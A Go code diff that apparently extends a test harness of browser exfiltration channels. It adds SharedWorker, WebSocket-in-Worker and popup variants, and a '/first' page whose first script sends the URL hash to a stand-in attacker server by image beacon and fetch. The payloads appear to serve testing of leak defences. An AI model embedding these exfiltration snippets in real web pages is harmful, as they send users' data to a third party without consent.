@@ -43,6 +43,9 @@ var channels = map[string]string{
 	"fetch":         `fetch(A + '/fetch', {method: 'POST', mode: 'no-cors', body: q()});`,
 	"worker":        `new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(A + '/worker?' + q()) + ')'], {type: 'text/javascript'})));`,
 	"serviceworker": `navigator.serviceWorker.register('/sw.js?' + q()).catch(() => {});`,
+	"sharedworker":  `new SharedWorker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(A + '/shared?' + q()) + ')'], {type: 'text/javascript'})));`,
+	"workersocket":  `new Worker(URL.createObjectURL(new Blob(['new WebSocket(' + JSON.stringify(A.replace('http', 'ws') + '/ws?' + q()) + ')'], {type: 'text/javascript'})));`,
+	"popupfirst":    `window.open('/first#' + q());`,
 	"webrtc": `try { const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + U}]});
     pc.createDataChannel(q()); pc.createOffer().then(o => pc.setLocalDescription(o)); } catch (e) {}`,
 	"hostname": `const hex = s => Array.from(new TextEncoder().encode(s), b => b.toString(16).padStart(2, '0')).join('');
@@ -134,6 +137,14 @@ func (cs *channelSites) siteHandler() http.Handler {
 			cs.mu.Unlock()
 		}
 		http.Error(w, "no", http.StatusBadRequest)
+	})
+	// A page of the site's own that, opened in a window, sends what its
+	// address carries to the attacker from its first document's first
+	// script, before anything else of it loads.
+	mux.HandleFunc("/first", func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/html")
+		fmt.Fprintf(w, `<!doctype html><html><head><script>new Image().src = %q + '/first?' + location.hash.slice(1);
+fetch(%q + '/first-fetch?' + location.hash.slice(1), {mode: 'no-cors'}).catch(() => {});</script></head><body><p>Thanks</p></body></html>`, cs.attacker.URL, cs.attacker.URL)
 	})
 	mux.HandleFunc("/sw.js", func(w http.ResponseWriter, r *http.Request) {
 		w.Header().Set("Content-Type", "text/javascript")
